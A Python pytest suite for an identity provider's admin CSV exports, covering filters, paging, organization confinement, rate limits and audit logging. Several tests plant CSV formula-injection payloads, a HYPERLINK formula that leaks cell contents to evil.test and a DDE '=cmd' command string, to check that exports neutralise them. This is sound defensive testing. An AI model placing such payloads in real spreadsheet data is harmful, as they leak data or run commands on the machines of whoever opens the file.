"""The admin pages' "Download CSV" (/admin/users.csv, /admin/audit.csv): the page's filtered set,
every page of it, in the admin's organization only, spreadsheet-safe, audited and limited."""
from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from urllib.parse import unquote

import pytest
from sqlalchemy import select

from idp import audit
from idp.admin import export
from idp.db import db, utcnow
from idp.models import AuditEvent


@pytest.fixture
def settings(app, monkeypatch):
    """`settings(**values)`: the app's settings with these dotted values (`ratelimit__admin_exports`
    for `ratelimit.admin_exports`); the download rate is raised for every test but its own."""
    real = app.extensions["idp.settings"]
    changed = {"ratelimit.admin_exports": "1000 per minute"}

    class Changed:
        def __getattr__(self, name):
            return getattr(real, name)

        def get(self, dotted, default=None):
            return changed[dotted] if dotted in changed else real.get(dotted, default)

    monkeypatch.setitem(app.extensions, "idp.settings", Changed())

    def set_values(**values):
        changed.update({key.replace("__", "."): value for key, value in values.items()})

    return set_values


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff"), "UTF-8 with a byte order mark"
    return list(csv.DictReader(io.StringIO(body[1:])))


def emails(response) -> list[str]:
    return [row["email"] for row in rows_of(response)]


def exported_events() -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.event == "admin.exported")
                                   .order_by(AuditEvent.id)))


# --------------------------------------------------------------------------- users

def test_users_download_has_the_columns_and_headers(app, world, browser, settings):
    response = browser(world["admin"]).get("/admin/users.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert re.fullmatch(r'attachment; filename="users-Acme-\d{4}-\d\d-\d\d\.csv"',
                        response.headers["Content-Disposition"])
    rows = rows_of(response)
    assert list(rows[0]) == list(export.USER_COLUMNS)
    by_email = {row["email"]: row for row in rows}
    assert sorted(by_email) == ["admin@acme.test", "alice@acme.test", "bob@acme.test", "carol@acme.test"]
    assert by_email["carol@acme.test"]["two_factor_status"] == "required_not_set_up"
    assert by_email["carol@acme.test"]["required"] == "yes (user)"
    assert by_email["bob@acme.test"]["two_factor_status"] == "active_voluntary"
    assert by_email["alice@acme.test"]["required"] == "no"
    assert by_email["admin@acme.test"]["role"] == "admin" and by_email["alice@acme.test"]["disabled"] == "no"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", by_email["alice@acme.test"]["created_at"])


def test_users_download_follows_the_page_filters(app, world, browser, make_user, settings):
    acme = world["acme"]
    until = utcnow().date() + timedelta(days=3)
    make_user(acme, "dora@acme.test", name="Dora", mfa_setting="exempt", exempt_until=until)
    make_user(acme, "eve@acme.test", name="Eve", mfa_setting="exempt")
    make_user(acme, "zed@acme.test", name="Zed", disabled=True)
    client = browser(world["admin"])
    assert emails(client.get("/admin/users.csv?status=required_not_set_up")) == ["carol@acme.test"]
    assert emails(client.get("/admin/users.csv?q=BOB")) == ["bob@acme.test"]
    exempt = rows_of(client.get("/admin/users.csv?exempt=1"))
    assert [(r["email"], r["required"], r["exempt_until"]) for r in exempt] == [
        ("dora@acme.test", "no (exempt)", until.isoformat()), ("eve@acme.test", "no (exempt)", "")]
    # The page's own answer to the same filters, for comparison: the same people.
    page = client.get("/admin/users?status=not_active").get_data(as_text=True)
    shown = re.findall(r'<td data-label="E-mail"><bdi>([^<]+)</bdi>', page)
    assert emails(client.get("/admin/users.csv?status=not_active")) == shown
    assert "zed@acme.test" in emails(client.get("/admin/users.csv"))  # "All statuses" lists the disabled


def test_the_organization_rule_is_everyone(app, world, browser, settings):
    from idp.models import Organization

    db.session.get(Organization, world["acme"].id).require_2fa = True
    db.session.commit()
    rows = {r["email"]: r for r in rows_of(browser(world["admin"]).get("/admin/users.csv"))}
    assert rows["alice@acme.test"]["required"] == "yes (everyone)"
    assert rows["carol@acme.test"]["required"] == "yes (user)"


def test_users_download_holds_every_page(app, world, browser, make_user, settings, monkeypatch):
    """The page shows admin.page_size users; the download all of them, read a batch at a time."""
    for n in range(7):
        make_user(world["acme"], f"user{n}@acme.test")
    settings(admin__page_size=2)
    monkeypatch.setattr(export, "BATCH", 3)
    client = browser(world["admin"])
    page = client.get("/admin/users").get_data(as_text=True)
    assert len(re.findall(r'data-user-id="', page)) == 2 and 'rel="next"' in page
    got = emails(client.get("/admin/users.csv"))
    assert len(got) == 11 and len(set(got)) == 11
    assert {f"user{n}@acme.test" for n in range(7)} <= set(got)
    assert emails(client.get("/admin/users.csv?after=999999")) == got  # no paging on a download


def test_users_download_lists_the_factors_held(app, world, browser, settings):
    from idp.factors.registry import current_registry

    store = current_registry().store
    store.for_factor("totp").create(world["bob"].id, "phone", {"x": 1}, secret=b"s" * 20)
    store.for_factor("recovery_codes").replace_set(world["bob"].id, [{"label": "", "public": {"h": "x"}}])
    db.session.commit()
    rows = {r["email"]: r for r in rows_of(browser(world["admin"]).get("/admin/users.csv"))}
    assert rows["bob@acme.test"]["methods"] == "totp, recovery_codes"
    assert rows["alice@acme.test"]["methods"] == ""


def test_a_cell_that_a_spreadsheet_would_run_is_defused(app, world, browser, make_user, settings):
    make_user(world["acme"], "formula@acme.test", name='=HYPERLINK("http://evil.test/?x="&A1,"Click")')
    for n, start in enumerate(("+", "-", "@", "\t", "\r")):
        make_user(world["acme"], f"start{n}@acme.test", name=f"{start}SUM(1+1)")
    rows = {r["email"]: r for r in rows_of(browser(world["admin"]).get("/admin/users.csv"))}
    assert rows["formula@acme.test"]["name"] == '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")'
    for n, start in enumerate(("+", "-", "@", "\t", "\r")):
        assert rows[f"start{n}@acme.test"]["name"] == f"'{start}SUM(1+1)"
    assert rows["alice@acme.test"]["name"] == "Alice"


def test_no_cell_starts_a_formula_when_a_spreadsheet_splits_at_semicolons(app, world, browser, make_user, settings):
    """Excel in a French (German, ...) locale opens a .csv split at ";", not ",": a name or a
    browser written `x;=cmd|...` would then be two cells, the second a formula. Whatever the
    separator a spreadsheet splits at, no piece of a line may start one."""
    dde = "=cmd|' /C calc'!A0"
    make_user(world["acme"], "semi@acme.test", name=f"Semi;{dde}")
    make_user(world["acme"], "comma@acme.test", name="a,b;+SUM(1+1)")
    audit.record("policy.user_requirement_changed", org_id=world["acme"].id, actor="cli",
                 subject_id=world["alice"].id, details={"reason": f"x;{dde}"}, facts=("192.0.2.1", f"Mozilla;{dde}"))
    db.session.commit()
    client = browser(world["admin"])
    for url in ("/admin/users.csv", "/admin/audit.csv"):
        response = client.get(url)
        assert response.status_code == 200
        body = response.get_data(as_text=True)[1:]
        for separator in (",", ";", "\t"):
            for line in csv.reader(io.StringIO(body), delimiter=separator):
                for value in line:
                    assert not value.startswith(export._FORMULA_STARTS), (url, separator, value)
    rows = {r["email"]: r for r in rows_of(client.get("/admin/users.csv"))}
    assert rows["semi@acme.test"]["name"] == "Semi;'" + dde  # (readable still, as the leading apostrophe's)


def test_a_non_ascii_organization_name_gets_an_rfc_6266_filename(app, world, browser, make_org, make_user, settings):
    school = make_org('École "Zéro"/Ωmega')
    principal = make_user(school, "head@ecole.test", role="admin")
    disposition = browser(principal).get("/admin/users.csv").headers["Content-Disposition"]
    ascii_part, utf8_part = re.fullmatch(r'attachment; filename="([A-Za-z0-9.-]+)"; filename\*=UTF-8\'\'(\S+)',
                                         disposition).groups()
    assert ascii_part.startswith("users-Ecole-Zero-mega-")
    assert unquote(utf8_part).startswith("users-École -Zéro-Ωmega-") and unquote(utf8_part).endswith(".csv")


# --------------------------------------------------------------------------- confinement and refusals

def test_another_organization_gets_its_own_users_and_events_only(app, world, browser, settings):
    audit.record("user.created", org_id=world["acme"].id, actor="cli", subject_id=world["alice"].id)
    audit.record("user.created", org_id=world["other"].id, actor="cli", subject_id=world["stranger"].id)
    db.session.commit()
    client = browser(world["other_admin"])
    assert sorted(emails(client.get("/admin/users.csv"))) == ["admin@other.test", "stranger@other.test"]
    events = rows_of(client.get("/admin/audit.csv"))
    assert [e["subject"] for e in events if e["event"] == "user.created"] == ["stranger@other.test"]
    # Acme's users named as filters find nothing of Acme's.
    assert [e["event"] for e in rows_of(client.get(f"/admin/audit.csv?user_id={world['alice'].id}"))] == []
    assert [e["event"] for e in rows_of(client.get("/admin/audit.csv?user=alice"))] == []
    assert emails(client.get("/admin/users.csv?q=alice")) == []


def test_a_member_gets_403_and_nobody_signed_in_is_sent_to_sign_in(app, world, browser, settings):
    for url in ("/admin/users.csv", "/admin/audit.csv"):
        assert browser(world["alice"]).get(url).status_code == 403
        assert browser(world["stranger"]).get(url).status_code == 403
        assert browser().get(url).status_code == 302
    assert exported_events() == []


@pytest.mark.parametrize("url", ["/admin/users.csv?status=bogus", "/admin/users.csv?exempt=yes",
                                 "/admin/audit.csv?user_id=abc", "/admin/audit.csv?user_id=99999999999",
                                 "/admin/audit.csv?user_id=%C2%B2"])
def test_a_bad_filter_is_a_400_as_on_the_page(app, world, browser, settings, url):
    client = browser(world["admin"])
    assert client.get(url).status_code == 400
    assert client.get(url.replace(".csv", "")).status_code == 400
    assert exported_events() == []


def test_a_head_request_reads_and_records_nothing(app, world, browser, settings):
    response = browser(world["admin"]).head("/admin/users.csv")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.get_data() == b"" and exported_events() == []


def test_downloads_are_limited_per_admin(app, world, browser, settings):
    settings(ratelimit__admin_exports="2 per minute")
    admin, other = browser(world["admin"]), browser(world["other_admin"])
    assert rows_of(admin.get("/admin/users.csv")) and rows_of(admin.get("/admin/audit.csv"))
    refused = admin.get("/admin/users.csv")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0
    assert rows_of(other.get("/admin/users.csv"))  # another admin's own count
    assert len(exported_events()) == 3  # the refused one wrote nothing


# --------------------------------------------------------------------------- audit log

def test_the_download_is_audited_with_its_list_and_filters(app, world, browser, settings):
    client = browser(world["admin"])
    client.get("/admin/users.csv?status=active_voluntary&q=bo")
    client.get(f"/admin/audit.csv?user_id={world['bob'].id}&action=policy.")
    first, second = exported_events()
    assert (first.org_id, first.actor_id, first.actor) == (world["acme"].id, world["admin"].id, "admin@acme.test")
    assert first.details == {"list": "users", "filters": {"q": "bo", "status": "active_voluntary"}}
    assert second.details == {"list": "audit", "filters": {"user_id": world["bob"].id, "action": "policy."}}
    # Its own event opens an audit log's download (newest first), labelled as on the page.
    rows = rows_of(client.get("/admin/audit.csv"))
    assert rows[0]["event"] == "admin.exported" and rows[0]["label"] == "List downloaded as CSV"


def test_audit_download_has_the_cli_fields_and_the_page_filters(app, world, browser, settings):
    acme, alice, bob = world["acme"].id, world["alice"], world["bob"]
    audit.record("policy.user_requirement_changed", org_id=acme, actor_id=world["admin"].id,
                 actor="admin@acme.test", subject_id=alice.id, details={"to": "required", "reason": "=cmd|' /C calc'!A0"})
    audit.record("factor.enrolled", org_id=acme, actor_id=bob.id, actor="bob@acme.test", subject_id=bob.id,
                 details={"factor": "totp"})
    db.session.commit()
    client = browser(world["admin"])
    rows = rows_of(client.get("/admin/audit.csv?action=POLICY."))
    assert list(rows[0]) == list(export.AUDIT_COLUMNS)
    [row] = rows
    assert row["event"] == "policy.user_requirement_changed" and row["label"] == "User's 2FA requirement changed"
    assert row["subject"] == "alice@acme.test" and row["subject_id"] == str(alice.id)
    assert row["actor"] == "admin@acme.test" and re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["at"])
    assert row["details"] == '{"reason": "=cmd|\' /C calc\'!A0", "to": "required"}'  # JSON: begins with {
    assert [r["event"] for r in rows_of(client.get("/admin/audit.csv?user=bob"))] == ["factor.enrolled"]
    assert [r["event"] for r in rows_of(client.get(f"/admin/audit.csv?user_id={alice.id}"))] == [
        "policy.user_requirement_changed"]


def test_audit_download_in_french(app, world, browser, settings):
    audit.record("factor.enrolled", org_id=world["acme"].id, actor="bob@acme.test", subject_id=world["bob"].id)
    db.session.commit()
    response = browser(world["admin"]).get("/admin/audit.csv?action=factor.", headers={"Accept-Language": "fr"})
    assert [r["label"] for r in rows_of(response)] == ["Second facteur ajouté"]


def test_audit_download_holds_every_page_up_to_its_cap(app, world, browser, settings, monkeypatch):
    for n in range(9):
        audit.record("user.created", org_id=world["acme"].id, actor="cli", subject_id=world["alice"].id,
                     details={"n": n})
    db.session.commit()
    monkeypatch.setattr(export, "BATCH", 4)
    client = browser(world["admin"])
    rows = rows_of(client.get("/admin/audit.csv?action=user.created"))
    assert [r["details"] for r in rows] == [f'{{"n": {n}}}' for n in reversed(range(9))]  # newest first
    monkeypatch.setattr(export, "MAX_AUDIT_ROWS", 5)
    rows = rows_of(client.get("/admin/audit.csv?action=user.created"))
    assert [r["details"] for r in rows[:5]] == [f'{{"n": {n}}}' for n in (8, 7, 6, 5, 4)]
    assert len(rows) == 6 and rows[5]["id"].startswith("# More events match: only the newest 5")
    monkeypatch.setattr(export, "MAX_AUDIT_ROWS", 9)  # exactly as many as there are: no note
    assert len(rows_of(client.get("/admin/audit.csv?action=user.created"))) == 9


# --------------------------------------------------------------------------- the pages' links

def test_the_pages_link_their_download_with_their_filters(app, world, browser, settings):
    client = browser(world["admin"])
    page = client.get("/admin/users?q=bo&status=active_voluntary&exempt=1&after=3").get_data(as_text=True)
    link = re.search(r'<a href="([^"]+)" download', page).group(1)
    assert link.startswith("/admin/users.csv?") and "after" not in link
    assert sorted(link.split("?")[1].replace("&amp;", "&").split("&")) == ["exempt=1", "q=bo",
                                                                             "status=active_voluntary"]
    page = client.get(f"/admin/audit?user_id={world['bob'].id}&action=policy.").get_data(as_text=True)
    link = re.search(r'<a href="([^"]+)" download', page).group(1).replace("&amp;", "&")
    assert link == f"/admin/audit.csv?user_id={world['bob'].id}&action=policy."
    assert "Download CSV" in page
    page = client.get("/admin/users", headers={"Accept-Language": "fr"}).get_data(as_text=True)
    assert "Télécharger en CSV" in page
